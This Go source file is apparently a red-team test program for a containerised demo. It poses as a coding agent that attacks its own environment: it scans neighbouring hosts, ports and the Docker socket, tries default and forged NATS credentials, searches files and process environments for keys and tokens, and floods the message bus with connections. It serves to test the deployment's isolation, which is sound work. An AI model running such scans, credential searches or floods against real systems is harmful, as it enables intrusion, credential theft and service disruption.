// Command intruder is a coding agent that attacks the environment of its container, for deploy/try-compose.sh. It
// carries out the attack named in the issue's title, records each success in the file intruder.txt in the checkout, and
// then runs another agent.
//
//	intruder AGENT [ARGUMENT...]
//
// INTRUDER_TARGETS holds the addresses that workers must not reach, separated by commas.
package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/nats-io/jwt/v2"
	"github.com/nats-io/nkeys"
)

func main() {
	var attempt struct {
		Issue struct{ Title string } `json:"issue"`
	}
	data, err := os.ReadFile(".retake/attempt.json")
	if err == nil {
		err = json.Unmarshal(data, &attempt)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "intruder:", err)
		os.Exit(2)
	}
	var said []string
	switch {
	case strings.Contains(attempt.Issue.Title, "intruder"):
		for _, attack := range []func() []string{reach, signIn, credentials} {
			said = append(said, attack()...)
		}
	case strings.Contains(attempt.Issue.Title, "flood"):
		said = flood(25 * time.Second)
	}
	if len(said) > 0 {
		if err := os.WriteFile("intruder.txt", []byte(strings.Join(said, "\n")+"\n"), 0o644); err != nil {
			fmt.Fprintln(os.Stderr, "intruder:", err)
			os.Exit(2)
		}
	}
	err = syscall.Exec(os.Args[1], os.Args[1:], os.Environ())
	fmt.Fprintln(os.Stderr, "intruder:", err)
	os.Exit(2)
}

// bus returns the address of the worker's bus, which is the remote end of an established TCP connection.
func bus() string {
	table, _ := os.ReadFile("/proc/net/tcp")
	for line := range strings.Lines(string(table)) {
		f := strings.Fields(line)
		if len(f) < 4 || f[3] != "01" {
			continue
		}
		var a, b, c, d byte
		var port uint16
		if _, err := fmt.Sscanf(f[2], "%02X%02X%02X%02X:%04X", &d, &c, &b, &a, &port); err == nil {
			return fmt.Sprintf("%d.%d.%d.%d:%d", a, b, c, d, port)
		}
	}
	return ""
}

// ports are typically used by the demo's services, Docker and the host.
var ports = []string{"22", "53", "80", "443", "2375", "2376", "4222", "6222", "7422", "8222", "8900", "8080"}

// reach tries to connect to all addresses that it knows.
func reach() (said []string) {
	at := bus()
	relay, _, _ := net.SplitHostPort(at)
	hosts := strings.Split(os.Getenv("INTRUDER_TARGETS"), ",")
	for _, name := range []string{"nats-server", "director", "githubsim", "bus", "nats", "host.docker.internal"} {
		addresses, _ := net.LookupHost(name)
		hosts = append(hosts, addresses...)
	}
	parts := strings.Split(relay, ".")
	if len(parts) == 4 { // the host's address in this network
		hosts = append(hosts, strings.Join(parts[:3], ".")+".1")
	}
	var lock sync.Mutex
	var all sync.WaitGroup
	tried := 0
	for _, host := range hosts {
		for _, port := range ports {
			to := net.JoinHostPort(host, port)
			if host == "" || to == at {
				continue
			}
			tried++
			all.Go(func() {
				c, err := net.DialTimeout("tcp", to, 3*time.Second)
				if err != nil {
					return
				}
				_ = c.Close()
				lock.Lock()
				defer lock.Unlock()
				said = append(said, "through: connected to "+to)
			})
		}
	}
	all.Wait()
	for _, path := range []string{"/var/run/docker.sock", "/run/docker.sock"} {
		if c, err := net.Dial("unix", path); err == nil {
			_ = c.Close()
			said = append(said, "through: "+path)
		}
	}
	return append(said, fmt.Sprintf("tried %d addresses near the bus at %s", tried, at))
}

// signIn tries to sign in as other users on the bus.
func signIn() (said []string) {
	forged, sign := forge()
	id := os.Getenv("RETAKE_ATTEMPT_ID")
	connects := map[string]func(nonce string) string{
		"nothing":        func(string) string { return `{}` },
		"an old default": func(string) string { return `{"user":"director","pass":"demo"}` },
		"the old worker": func(string) string { return `{"user":"worker"}` },
		"its own name":   func(string) string { return `{"user":"` + id + `","pass":"` + id + `"}` },
		"a token":        func(string) string { return `{"auth_token":"` + id + `"}` },
		"the system":     func(string) string { return `{"user":"sys","pass":"sys"}` },
		"a forged account": func(nonce string) string {
			return fmt.Sprintf(`{"jwt":%q,"sig":%q}`, forged, sign(nonce))
		},
	}
	answered := 0
	for name, connect := range connects {
		c, r, nonce := greet()
		if c == nil {
			said = append(said, "the bus did not answer")
			continue
		}
		_, _ = fmt.Fprintf(c, "CONNECT %s\r\nSUB > 1\r\nPUB retake.v1.worker.%s.result 2\r\n{}\r\nPING\r\n",
			connect(nonce), id)
		for {
			line, err := r.ReadString('\n')
			if strings.HasPrefix(line, "-ERR") {
				answered++
			}
			if strings.HasPrefix(line, "PONG") {
				said = append(said, "through: signed in with "+name)
			}
			if err != nil || strings.HasPrefix(line, "PONG") {
				break
			}
		}
		_ = c.Close()
	}
	if c, err := net.DialTimeout("tcp", bus(), 3*time.Second); err == nil { // expect silence without TLS
		_ = c.SetDeadline(time.Now().Add(3 * time.Second))
		buffer := make([]byte, 4)
		if n, _ := c.Read(buffer); n > 0 && string(buffer[:n]) == "INFO" {
			said = append(said, "through: the bus speaks without TLS")
		}
		_ = c.Close()
	}
	return append(said, fmt.Sprintf("%d of %d were refused", answered, len(connects)))
}

// greet opens a connection with TLS, and returns the nonce that the server wants signed.
func greet() (net.Conn, *bufio.Reader, string) {
	dialer := tls.Dialer{
		NetDialer: &net.Dialer{Timeout: 5 * time.Second},
		Config:    &tls.Config{InsecureSkipVerify: true},
	}
	c, err := dialer.Dial("tcp", bus())
	if err != nil {
		return nil, nil, ""
	}
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	r := bufio.NewReader(c)
	line, _ := r.ReadString('\n')
	var info struct{ Nonce string }
	_ = json.Unmarshal([]byte(strings.TrimPrefix(line, "INFO ")), &info)
	return c, r, info.Nonce
}

// forge forges a credential for a user of an account that the server does not trust.
func forge() (token string, sign func(string) string) {
	account, _ := nkeys.CreateAccount()
	user, _ := nkeys.CreateUser()
	public, _ := user.PublicKey()
	token, _ = jwt.NewUserClaims(public).Encode(account)
	return token, func(nonce string) string {
		sig, _ := user.Sign([]byte(nonce))
		return base64.RawURLEncoding.EncodeToString(sig)
	}
}

// credentials searches the readable files for credentials.
func credentials() (said []string) {
	patterns := [][]byte{
		[]byte(`"sign_` + `key"`), []byte(`"se` + `ed":"SU`), []byte("eyJ0eXAi" + "OiJKV1Qi"),
		[]byte("BEGIN " + "NATS USER JWT"),
	}
	looked := 0
	look := func(path string) {
		f, err := os.Open(path)
		if err != nil {
			return
		}
		defer f.Close()
		buffer := make([]byte, 16<<20)
		n, _ := f.Read(buffer)
		looked++
		for _, p := range patterns {
			if bytes.Contains(buffer[:n], p) {
				said = append(said, fmt.Sprintf("through: %s contains %s", path, p))
			}
		}
	}
	self, _ := os.Executable()
	_ = filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		switch {
		case path == "/proc" || path == "/sys" || path == "/dev" || path == "/usr/local/go":
			return fs.SkipDir
		case err == nil && d.Type().IsRegular() && path != "/retake/worker" && path != self:
			// The programs of worker and intruder are skipped, because they contain the pattern.
			look(path)
		}
		return nil
	})
	processes, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range processes {
		for _, name := range []string{"environ", "cmdline"} {
			look(filepath.Join(p, name))
		}
	}
	for _, name := range []string{"mem", "environ", "maps", "auxv"} {
		if f, err := os.Open("/proc/1/" + name); err == nil {
			if n, _ := f.Read(make([]byte, 1)); n > 0 {
				said = append(said, "through: /proc/1/"+name)
			}
			_ = f.Close()
		}
	}
	if list, err := os.ReadDir("/proc/1/fd"); err == nil {
		said = append(said, fmt.Sprintf("through: listed %d file descriptors of process 1", len(list)))
	}
	return append(said, fmt.Sprintf("searched %d files and %d processes", looked, len(processes)))
}

// flood opens connections to the bus as fast as possible. On half of them, it sends junk instead of signing in.
func flood(during time.Duration) []string {
	var opened, held atomic.Int64
	var all sync.WaitGroup
	end := time.Now().Add(during)
	at, junk := bus(), bytes.Repeat([]byte("PUB x 1\r\nx\r\n"), 1<<14)
	for i := range 256 {
		all.Go(func() {
			for time.Now().Before(end) {
				c, err := net.DialTimeout("tcp", at, time.Second)
				if err != nil {
					continue
				}
				opened.Add(1)
				_ = c.SetDeadline(time.Now().Add(3 * time.Second))
				if i%2 == 0 {
					_, _ = c.Write(junk)
				}
				if _, err := c.Read(make([]byte, 1)); err != nil && os.IsTimeout(err) {
					held.Add(1)
				}
				_ = c.Close()
			}
		})
	}
	all.Wait()
	return []string{fmt.Sprintf("opened %d connections, kept %d open for 3 s", opened.Load(), held.Load())}
}
